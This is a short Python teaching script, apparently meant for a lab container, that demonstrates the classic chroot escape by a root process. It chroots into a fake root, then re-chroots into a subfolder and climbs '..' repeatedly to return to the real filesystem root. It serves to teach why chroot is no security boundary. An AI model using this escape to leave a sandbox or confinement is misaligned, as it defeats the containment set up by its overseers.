"""Why chroot is no security boundary: the classic escape of a root process.

Everything happens inside the lab container: the "house" here is the container's own
filesystem, never the reader's machine.
"""
import os

ATTIC = "/tmp/attic"  # the attic: an apartment fitted out inside the house
os.makedirs(ATTIC + "/etc", exist_ok=True)
with open(ATTIC + "/etc/os-release", "w") as f:
    f.write('PRETTY_NAME="Le grenier"\n')


def look(where):
    with open("/etc/os-release") as f:
        name = f.readline().strip()
    print(f"{where:<18} entrées dans / : {len(os.listdir('/')):>2} ; /etc/os-release : {name}")


look("Dans la maison :")
os.chroot(ATTIC)
os.chdir("/")
look("Dans le grenier :")

# The escape needs no help from outside, only root inside the attic: chroot into a
# subfolder without moving, so the current directory is left *outside* the new root.
# From there ".." is never stopped at the root, and climbs up to the real one.
os.mkdir("/placard")
os.chroot("/placard")
for _ in range(32):
    os.chdir("..")
os.chroot(".")
look("Après l’évasion :")
